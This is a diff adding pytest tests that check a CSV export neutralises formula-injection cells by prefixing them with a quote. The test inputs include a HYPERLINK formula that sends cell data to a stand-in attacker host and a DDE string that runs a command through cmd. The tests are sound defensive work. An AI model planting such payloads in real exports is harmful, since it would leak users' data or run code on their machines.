@@ -342,6 +342,29 @@ def test_to_csv_quotes_awkward_values() -> None:
     assert parsed[1][:2] == ['a,"b"\nc', "1"]
 
 
+@pytest.mark.parametrize("text", [
+    '=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
+    "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
+])
+def test_to_csv_neutralises_cells_a_spreadsheet_would_run(text: str) -> None:
+    rows: list[dict[str, object]] = [{"caller": text, "alias": text, "requests": 1,
+                                      "saving_usd": -0.25}]
+    out = to_csv(rows, ["caller", "alias"])
+    assert "\r" not in out  # a bare CR would end the row for most readers
+    parsed = list(csv.reader(io.StringIO(out)))
+    assert len(parsed) == 2
+    cell = "'" + text.replace("\r", "\n")
+    assert parsed[1][:2] == [cell, cell]
+    # Numbers are the ledger's own: a negative saving stays a number.
+    assert parsed[1][2] == "1" and parsed[1][-1] == "-0.25"
+
+
+def test_to_csv_keeps_ordinary_text_as_it_is() -> None:
+    rows: list[dict[str, object]] = [{"caller": "app=1", "alias": "a-b+c@d", "requests": 1}]
+    parsed = list(csv.reader(io.StringIO(to_csv(rows, ["caller", "alias"]))))
+    assert parsed[1][:2] == ["app=1", "a-b+c@d"]
+
+
 def column_spans(table: str) -> list[tuple[int, int]]:
     """Start and end of each column, from the dashed line under the header."""
     dashes = table.splitlines()[1]
